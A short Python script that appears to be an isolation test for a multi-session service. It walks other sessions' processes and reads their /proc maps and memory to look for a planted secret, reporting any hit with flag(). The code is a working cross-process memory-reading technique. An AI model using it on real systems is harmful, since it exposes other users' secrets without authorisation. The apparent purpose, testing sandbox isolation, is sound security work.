"""Finds another session's secret in its memory.

group: neighbour
weaken: pidns uids
victim: yes
"""

from attack import *

secret = b"of the" + b" victim"
for pid in kernels_of_others():
    try:
        with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "rb", 0) as memory:
            for line in maps:
                first, _, last = line.split()[0].partition("-")
                if "rw-p" not in line or int(last, 16) - int(first, 16) > 16 << 20:
                    continue
                memory.seek(int(first, 16))
                try:
                    found = secret in memory.read(int(last, 16) - int(first, 16))
                except OSError:
                    continue
                if found:
                    flag("%d keeps it in %s" % (pid, line.strip()))
                    break
    except OSError as e:
        print(pid, e)
